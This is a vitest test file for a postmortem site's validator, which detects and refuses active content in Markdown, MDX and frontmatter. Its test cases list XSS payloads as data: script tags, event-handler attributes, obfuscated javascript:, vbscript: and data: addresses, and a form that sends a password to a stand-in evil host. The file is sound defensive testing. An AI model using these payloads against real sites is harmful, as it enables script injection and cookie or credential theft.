import { describe, expect, test } from 'vitest';
import { join } from 'node:path';
import { markdownToMdast, mdxToMdast } from 'satteri';
import type { Root } from 'mdast';
import { activeUrl, findActiveContent, findActiveHtml, mayHoldActiveContent } from '../../src/lib/active-content.ts';
import { RefusedMarkupError, toFastMarkdown } from '../../src/lib/fast-markdown.ts';
import { validatePostmortemSource } from '../../src/lib/validate-postmortem.ts';
import { loadVocabulary } from '../../src/lib/vocabulary.ts';
import { fixturesDir } from '../support/content-fixture.ts';
import { publicProbePost } from '../support/public-probe-post.ts';

const inMarkdown = (body: string) => findActiveContent(markdownToMdast(body, { features: { gfm: true } }) as unknown as Root);
const inMdx = (body: string) => findActiveContent(mdxToMdast(body) as unknown as Root);

describe('markup that would run or load something in a reader\'s browser', () => {
  test.each([
    ['<script>fetch("/x")</script>', /<script> element runs code/],
    ['<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>', /<SCRIPT> element/],
    ['<iframe src="https://grafana.example/d/1"></iframe>', /an <iframe> element embeds another page/],
    ['<object data="x.swf"></object>', /<object> element/],
    ['<embed src="x.swf">', /<embed> element/],
    ['<style>body { display: none }</style>', /<style> element restyles/],
    ['<form action="https://evil.example/"><input name="password"></form>', /<form> element sends/],
    ['<base href="https://evil.example/">', /<base> element/],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', /<meta> element with http-equiv/],
    ['<link rel="stylesheet" href="https://evil.example/x.css">', /<link> element with href/],
    ['Hover <span onmouseover="alert(1)">here</span>.', /onmouseover attribute runs code/],
    ['<details open ontoggle=alert(1)><summary>x</summary></details>', /ontoggle attribute/],
    ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', /xlink:href: a javascript: address/],
    ['<svg><animate attributeName="href" to="javascript:alert(1)" /></svg>', /to sets a javascript: address/],
    ['<a href="&#106;avascript:alert(1)">entity</a>', /href: a javascript: address/],
    ['<a href="java&#x09;script:alert(1)">tab entity</a>', /href: a javascript: address/],
    ['<a href=" JaVaScRiPt:alert(1)">case</a>', /href: a javascript: address/],
    ['<a href="vbscript:msgbox(1)">vb</a>', /vbscript: address/],
    ['<a href="data:text/html;base64,PHNjcmlwdD4=">data</a>', /data: address/],
    ['<a href="data:image/svg+xml;base64,PHN2Zz4=">svg</a>', /href: a data: address/],
    ['<div style="background: url(https://tracker.example/p.gif)">x</div>', /style loads something/],
    ['<div style="width: expression(alert(1))">x</div>', /style loads something/],
    ['<iframe srcdoc="<p>x</p>"></iframe>', /srcdoc attribute inserts markup/],
    ['[click](javascript:alert(1))', /link to "javascript:alert\(1\)": a javascript: address/],
    ['[click](java&#115;cript:alert(1))', /link to "javascript:alert\(1\)"/],
    ['[click][r]\n\n[r]: <javascript:alert(1)>', /link to "javascript:alert\(1\)"/],
    ['<javascript:alert(1)>', /javascript: address/],
    ['![x](data:text/html,<script>alert(1)</script>)', /image to "data:text\/html/],
  ])('Markdown: %s', (body, message) => {
    const found = inMarkdown(`Intro.\n\n${body}\n`);
    expect(found.map((f) => f.message).join('\n')).toMatch(message);
  });

  test.each([
    ['<script>{"alert(1)"}</script>', /<script> element runs code/],
    ['<span onClick="alert(1)">x</span>', /onClick attribute runs code/],
    ['<a href="javascript:alert(1)">x</a>', /href: a javascript: address/],
    ['<a href={"java" + "script:alert(1)"}>x</a>', /href: a javascript: address/],
    ['<a {...{ onClick: "alert(1)" }}>x</a>', /spread attribute/],
    ['<div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=alert(1)>" }} />', /dangerouslySetInnerHTML attribute inserts markup/],
    ['<iframe src="https://evil.example/" />', /an <iframe> element/],
  ])('MDX: %s', (body, message) => {
    const found = inMdx(`Intro.\n\n${body}\n`);
    expect(found.map((f) => f.message).join('\n')).toMatch(message);
  });

  test.each([
    '[runbook](https://runbooks.example/db) and [mail](mailto:oncall@example.com) and [up](../other/)',
    '<details><summary>Query</summary>\n\n<kbd>Ctrl</kbd>+<kbd>C</kbd> then H<sub>2</sub>O<sup>1</sup><br>\n\n</details>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a dot">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="an icon"> and ![icon](data:image/svg+xml;base64,PHN2Zz4=)',
    '<span style="color: #c00">red</span>',
    'Call recording: <Link to the Hangout or recording>',
    '```html\n<script>alert(1)</script>\n<a href="javascript:alert(1)">x</a>\n```',
    'Inline `<script>` and `javascript:alert(1)` as code.',
    '<!-- <script>alert(1)</script> -->',
    'The data: section and the script: "restart the pod" are words, not addresses.',
  ])('inert: %s', (body) => {
    expect(inMarkdown(`Intro.\n\n${body}\n`)).toEqual([]);
  });

  test('MDX elements that are inert pass', () => {
    expect(inMdx('<Internal>Paged Sam.</Internal>\n\n<details>\n<summary>x</summary>\n\ny\n\n</details>\n\n<a href="https://x.example/">x</a>\n')).toEqual([]);
  });

  test('each finding is at its line and column, inside a multi-line HTML block too', () => {
    const found = inMarkdown('Intro.\n\n<div>\n  <p>fine</p>\n  <script>x()</script>\n</div>\n\nSee [x](javascript:y()).\n');
    expect(found.map(({ line, column }) => [line, column])).toEqual([[5, 3], [8, 5]]);
  });

  test('activeUrl ignores what browsers ignore, and lets pictures through', () => {
    expect(activeUrl('\u0001 java\nscr\tipt:alert(1)')).toMatch(/javascript:/);
    expect(activeUrl('https://example.com/javascript:x')).toBeUndefined();
    expect(activeUrl('data:image/png;base64,AAAA', { image: true })).toBeUndefined();
    expect(activeUrl('data:image/png;base64,AAAA')).toMatch(/data:/);
  });

  test('findActiveHtml gives the offset of each tag', () => {
    const html = '<p>ok</p>\n<script>x</script>';
    expect(findActiveHtml(html)).toEqual([{ offset: html.indexOf('<script>'), message: expect.stringMatching(/script/) }]);
  });

  test('the quick test never misses a body that holds active content', () => {
    for (const body of ['<script>x</script>', '[a](javascript:x)', '[a](java&#115;cript:x)', '[a](<java\tscript:x>)', '[a](javascript\\:x)', '![a](DATA:text/html,x)']) {
      expect(mayHoldActiveContent(body)).toBe(true);
      expect(inMarkdown(body).length).toBeGreaterThan(0);
    }
    expect(mayHoldActiveContent('Plain text with a [link](https://example.com/).')).toBe(false);
  });
});

describe('npm run check and the build refuse it', () => {
  const vocabulary = loadVocabulary(join(fixturesDir, 'vocabulary'));
  const context = { vocabulary, knownIds: new Set(['post']), contentDir: 'content' };
  const source = publicProbePost({ body: 'The cache emptied.\n\n<span onclick="alert(1)">Details</span> follow.\n' });
  const line = source.split('\n').findIndex((text) => text.includes('onclick')) + 1;

  test.each(['post.md', 'post.mdx'])('%s: check reports body/active-content at the file\'s line', (file) => {
    const findings = validatePostmortemSource(file, 'post', source, context).findings.filter((f) => f.rule === 'body/active-content');
    expect(findings).toEqual([expect.objectContaining({ line, severity: 'error', message: expect.stringMatching(/onclick attribute runs code/), fix: expect.stringMatching(/fenced code block/) })]);
  });

  test.each([
    ['post.md', false, 'internal'], ['post.mdx', true, 'internal'], ['post.md', false, 'public'], ['post.mdx', true, 'public'],
  ] as const)('%s, %s site: the build stops at the same line', (file, isMdx, variant) => {
    let thrown: unknown;
    try {
      toFastMarkdown(source, { variant, isMdx, file });
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(RefusedMarkupError);
    expect(thrown).toMatchObject({ line, rule: 'body/active-content', reason: expect.stringMatching(/onclick/) });
  });

  test('a body without it renders as before', () => {
    const plain = publicProbePost({ body: 'The cache emptied; see [the runbook](https://runbooks.example/cache).\n' });
    expect(validatePostmortemSource('post.mdx', 'post', plain, context).findings.filter((f) => f.rule === 'body/active-content')).toEqual([]);
    expect(toFastMarkdown(plain, { variant: 'internal', isMdx: true, file: 'post.mdx' })).toHaveProperty('markdown');
  });
});

describe('addresses in the frontmatter that the site links to', () => {
  const vocabulary = loadVocabulary(join(fixturesDir, 'vocabulary'));
  const context = { vocabulary, knownIds: new Set(['post']), contentDir: 'content' };
  const withStatusPage = (url: string) => publicProbePost({ beforePublic: `statusPage: "${url}"\n` });

  test.each(['javascript:alert(1)', 'JavaScript:alert(document.cookie)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)'])('statusPage %s is refused', (url) => {
    const findings = validatePostmortemSource('post.mdx', 'post', withStatusPage(url), context).findings;
    expect(findings).toContainEqual(expect.objectContaining({ field: 'statusPage', severity: 'error', message: expect.stringMatching(/only https:\/\/ \(or http:\/\/\) addresses are linked/) }));
  });

  test('an http(s) statusPage passes', () => {
    const findings = validatePostmortemSource('post.mdx', 'post', withStatusPage('https://status.example.com/incidents/1'), context).findings;
    expect(findings.filter((f) => f.field === 'statusPage')).toEqual([]);
  });
});
